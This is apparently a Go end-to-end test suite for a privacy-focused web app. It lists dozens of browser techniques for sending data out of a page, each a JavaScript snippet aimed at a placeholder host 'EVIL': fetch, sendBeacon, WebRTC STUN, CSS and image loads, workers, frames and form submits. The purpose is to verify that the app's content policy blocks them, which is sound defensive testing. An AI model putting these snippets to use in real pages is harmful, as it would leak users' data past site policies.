package e2e

import (
	"strings"
	"testing"

	"privatepca/app/e2e/drive"
)

// Why a way of the page remains.
const (
	ownServer = "the pages' own server hears it, which could as well serve other pages"
	noHeaders = "no header, no rule against it: the page's own policy cannot forbid it"
)

// own are the places where the page may ask its own server.
var own = map[place]string{onServer: ownServer, onHeaders: ownServer, onPlain: ownServer, onFirst: ownServer}

// plainOnly is where no header forbids it.
var plainOnly = map[place]string{onPlain: noHeaders}

// element makes an element with attributes, puts it into the page and waits.
func element(name, attributes string) string {
	return `const e = document.createElement('` + name + `'); for (const [k, v] of Object.entries({ ` + attributes + ` })) e.setAttribute(k, v); document.body.append(e); await new Promise(r => setTimeout(r, 700))`
}

// inFrame waits for a frame and runs a script on its window w.
func inFrame(attributes, then string) string {
	return `const f = document.createElement('iframe'); const loaded = new Promise(r => { f.onload = r; setTimeout(r, 600); }); for (const [k, v] of Object.entries({ ` + attributes + ` })) f.setAttribute(k, v); document.body.append(f); await loaded; const w = f.contentWindow; ` + then
}

const (
	stun      = `const c = new W.RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer()); await new Promise(r => setTimeout(r, 1200))`
	fetchEvil = `await w.fetch('EVIL', { mode: 'no-cors' })`
)

// frameOfTheWorker is a frame of the document where a worker starts on a host without headers. What a script does in it before that
// document's policy is read obeys no policy.
var frameOfTheWorker = wayOut{
	name: "frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html?TOKEN'`, ``),
	look: `return [...document.querySelectorAll('iframe')].some(f => { try { return f.contentWindow.location.search === '?TOKEN' } catch { return false } })`,
}

// waysOutOfPage are tried in a page in which a file is open.
var waysOutOfPage = []wayOut{
	// Requests of scripts.
	{name: "fetch", script: `await fetch('EVIL')`},
	{name: "fetch without CORS", script: `await fetch('EVIL', { mode: 'no-cors' })`},
	{name: "fetch that outlives the page", script: `await fetch('EVIL', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'leak' })`},
	{name: "fetch of its own origin", script: `await fetch('OWN')`, remains: own},
	{name: "fetch that is done later", script: `fetchLater('EVIL', { activateAfter: 0 }); await new Promise(r => setTimeout(r, 800))`},
	{name: "XMLHttpRequest", script: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL'); x.send(); await new Promise(r => { x.onloadend = r; })`},
	{alone: true, name: "synchronous request", script: `const x = new XMLHttpRequest(); x.open('POST', 'EVIL', false); x.send('leak')`},
	{name: "XMLHttpRequest of its own origin", script: `const x = new XMLHttpRequest(); x.open('GET', 'OWN'); x.send(); await new Promise(r => { x.onloadend = r; })`, remains: own},
	{name: "sendBeacon", script: `navigator.sendBeacon('EVIL', 'leak'); await new Promise(r => setTimeout(r, 400))`},
	{name: "sendBeacon of its own origin", script: `navigator.sendBeacon('OWN', 'leak'); await new Promise(r => setTimeout(r, 400))`, remains: own},
	{name: "WebSocket", script: `new WebSocket('ws://HOST/'); await new Promise(r => setTimeout(r, 800))`},
	{name: "WebSocketStream", script: `await new WebSocketStream('ws://HOST/').opened`},
	{name: "EventSource", script: `new EventSource('EVIL'); await new Promise(r => setTimeout(r, 800))`},
	{name: "WebTransport", script: `await new WebTransport('https://127.0.0.1:UDP/').ready`, bare: "the tests' browser runs without QUIC"},
	{alone: true, name: "WebRTC", script: strings.ReplaceAll(stun, "W.", "window."), remains: plainOnly},
	{name: "program that compiles as it comes", script: `await WebAssembly.compileStreaming(fetch('EVIL'))`},
	{name: "cache that fetches", script: `await (await caches.open('x')).add('EVIL')`},
	{name: "background fetch", script: `const r = await navigator.serviceWorker.ready; await r.backgroundFetch.fetch('TOKEN', 'EVIL'); await new Promise(r => setTimeout(r, 800))`, bare: "it has no service worker"},

	// What a page loads.
	{name: "image", script: `new Image().src = 'EVIL'; await new Promise(r => setTimeout(r, 500))`},
	{name: "image of its own origin", script: `new Image().src = 'OWN'; await new Promise(r => setTimeout(r, 500))`, remains: own},
	{name: "image of several", script: element("img", `srcset: 'EVIL 1x, EVIL 2x'`)},
	{name: "image in a picture", script: `const p = document.createElement('picture'); p.innerHTML = '<source srcset="EVIL"><img>'; document.body.append(p); await new Promise(r => setTimeout(r, 500))`},
	{name: "image of markup", script: `const d = document.createElement('div'); d.innerHTML = '<img src="EVIL">'; document.body.append(d); await new Promise(r => setTimeout(r, 500))`},
	{name: "image of an input", script: element("input", `type: 'image', src: 'EVIL'`)},
	{name: "image of a drawing", script: `const d = document.createElement('div'); d.innerHTML = '<svg><image href="EVIL" width="9" height="9"/></svg>'; document.body.append(d); await new Promise(r => setTimeout(r, 500))`},
	{name: "image of a filter", script: `const d = document.createElement('div'); d.innerHTML = '<svg><filter id="f"><feImage href="EVIL"/></filter><rect width="9" height="9" filter="url(#f)"/></svg>'; document.body.append(d); await new Promise(r => setTimeout(r, 500))`},
	{name: "image behind the page", script: element("table", `background: 'EVIL'`)},
	{name: "image of a style", script: `document.body.style.backgroundImage = 'url(EVIL)'; await new Promise(r => setTimeout(r, 500))`},
	{name: "image of a style attribute", script: element("p", `style: 'background: url(EVIL)'`)},
	{name: "image of a made sheet", script: `const s = new CSSStyleSheet(); s.replaceSync('html { background: url(EVIL) }'); document.adoptedStyleSheets = [s]; await new Promise(r => setTimeout(r, 500))`},
	{name: "sheet in the page", script: `const s = document.createElement('style'); s.textContent = '@import "EVIL.css"; main { background: url(EVIL) }'; document.head.append(s); await new Promise(r => setTimeout(r, 500))`},
	{name: "sheet", script: element("link", `rel: 'stylesheet', href: 'EVIL.css'`)},
	{name: "font", script: `await new FontFace('x', 'url(EVIL)').load()`},
	{name: "video", script: element("video", `src: 'EVIL', autoplay: ''`)},
	{name: "poster", script: element("video", `poster: 'EVIL'`)},
	{name: "sound", script: `new Audio('EVIL').load(); await new Promise(r => setTimeout(r, 500))`},
	{name: "subtitles", script: `const v = document.createElement('video'); v.crossOrigin = 'anonymous'; v.innerHTML = '<track default src="EVIL">'; document.body.append(v); v.textTracks[0].mode = 'showing'; await new Promise(r => setTimeout(r, 700))`},
	{name: "object", script: element("object", `data: 'EVIL.html'`)},
	{name: "embed", script: element("embed", `src: 'EVIL.html'`)},
	{name: "icon", script: element("link", `rel: 'icon', href: 'EVIL'`), bare: "without a window no icon is shown"},
	{name: "manifest", script: element("link", `rel: 'manifest', href: 'EVIL'`), bare: "without a window nothing is installed"},
	{name: "preload", script: element("link", `rel: 'preload', as: 'fetch', href: 'EVIL'`), byEngine: map[drive.Engine]string{drive.WebKit: "it asks no policy about a preload of this kind"}},
	{name: "module preload", script: element("link", `rel: 'modulepreload', href: 'EVIL.js'`)},
	{name: "prefetch", script: element("link", `rel: 'prefetch', href: 'EVIL'`)},
	{name: "preconnect", script: element("link", `rel: 'preconnect', href: 'https://HOST'`), bare: "a proxy hears nothing of it"},
	{name: "rules of speculation", script: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['EVIL.html'], eagerness: 'immediate' }] }); document.head.append(s); await new Promise(r => setTimeout(r, 800))`, bare: "a private profile fetches nothing early"},
	{name: "script of elsewhere", script: element("script", `src: 'EVIL.js'`)},
	{name: "script in the page", script: `const s = document.createElement('script'); s.textContent = "fetch('EVIL', { mode: 'no-cors' })"; document.head.append(s); await new Promise(r => setTimeout(r, 500))`},
	{name: "script of its own origin", script: element("script", `src: 'OWN.js'`), remains: own},
	{name: "module of elsewhere", script: `await import('EVIL.js')`},
	{name: "module of its own origin", script: `await import('OWN.js')`, remains: own},
	{name: "text that a function is made of", script: `await new Function("return fetch('EVIL', { mode: 'no-cors' })")()`},
	{name: "handler in markup", script: `const d = document.createElement('div'); d.innerHTML = '<img src="data:," onerror="fetch(\'EVIL\', { mode: \'no-cors\' })">'; document.body.append(d); await new Promise(r => setTimeout(r, 500))`},

	// Other contexts.
	{name: "worker out of memory", script: `new Worker(URL.createObjectURL(new Blob([` + asksEvil + `]))); await new Promise(r => setTimeout(r, 800))`},
	{name: "worker of a data address", script: `new Worker("data:text/javascript,fetch('EVIL',{mode:'no-cors'})"); await new Promise(r => setTimeout(r, 800))`},
	{name: "worker of its own origin", script: `new Worker('OWN.js'); await new Promise(r => setTimeout(r, 800))`, remains: own},
	{name: "shared worker", script: `new SharedWorker(URL.createObjectURL(new Blob([` + asksEvil + `]))); await new Promise(r => setTimeout(r, 800))`},
	{name: "frame", script: element("iframe", `src: 'EVIL.html'`)},
	{name: "frame that is answered nothing", script: element("iframe", `src: 'ELSE'`)},
	{name: "frame of markup", script: inFrame(`srcdoc: '<img src="EVIL">'`, `await new Promise(r => setTimeout(r, 500))`)},
	{name: "fetch of an empty frame", script: inFrame(``, fetchEvil)},
	{name: "fetch of a frame of its own page", script: inFrame(`src: 'SITE/help?TOKEN'`, fetchEvil)},
	{name: "fetch of a frame that names its data", script: inFrame(`src: 'SITE/embed?data=EVIL'`, fetchEvil)},
	{name: "fetch of a frame of a part of the page", script: inFrame(`src: 'SITE/web/app.css'`, fetchEvil)},
	{name: "fetch of a frame of nothing", script: inFrame(`src: 'SITE/nothing-there'`, fetchEvil)},
	frameOfTheWorker,
	{name: "fetch of the frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html'`, fetchEvil)},
	{alone: true, name: "WebRTC of an empty frame", script: inFrame(``, strings.ReplaceAll(stun, "W.", "w.")), remains: plainOnly},
	{alone: true, name: "WebRTC of the frame where a worker starts", script: inFrame(`src: 'SITE/web/seal.html'`, strings.ReplaceAll(stun, "W.", "w."))},
	{alone: true, name: "window", script: `const w = open('EVIL.html'); await new Promise(r => setTimeout(r, 500)); w?.close()`, remains: plainOnly},
	{alone: true, name: "window of nothing", script: `const w = open('about:blank'); ` + fetchEvil + `; w.close()`},
	{alone: true, name: "window that names its data", script: `const w = open('SITE/embed?data=EVIL'); await new Promise(r => setTimeout(r, 700)); try { ` + fetchEvil + ` } finally { w.close(); }`, remains: own},

	// Going elsewhere: an answer without content leaves the page where it is.
	{alone: true, name: "address", script: `location.href = 'ELSE'; await new Promise(r => setTimeout(r, 500))`, remains: plainOnly},
	{alone: true, name: "address of the navigation", script: `navigation.navigate('ELSE'); await new Promise(r => setTimeout(r, 500))`, remains: plainOnly},
	{alone: true, name: "link", script: `const a = document.createElement('a'); a.href = 'ELSE'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500))`, remains: plainOnly},
	{alone: true, name: "link to another window", script: `const a = document.createElement('a'); a.href = 'EVIL.html'; a.target = '_blank'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500))`, remains: plainOnly},
	{alone: true, name: "link that is downloaded", script: `const a = document.createElement('a'); a.href = 'EVIL'; a.download = 'x'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500))`, remains: plainOnly},
	{alone: true, name: "link that pings", script: `const a = document.createElement('a'); a.href = '#x'; a.ping = 'EVIL'; document.body.append(a); a.click(); await new Promise(r => setTimeout(r, 500))`},
	{alone: true, name: "form", script: `const f = document.createElement('form'); f.action = 'ELSE'; document.body.append(f); f.submit(); await new Promise(r => setTimeout(r, 500))`},
	{alone: true, name: "refresh", script: `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=ELSE'; document.head.append(m); await new Promise(r => setTimeout(r, 1500))`, remains: plainOnly},
}

// Of each way out of the page a script without rules succeeds, and one in ours does not, but
// for those that docs/security/ways-out.md names.
func TestNoWayOutOfThePage(t *testing.T) {
	t.Parallel()
	onlyChromium(t, "what the list says of each way is Chromium's: TestPageIsClosedInAnyEngine runs it elsewhere")
	tryEverywhere(t, waysOutOfPage, false)
}
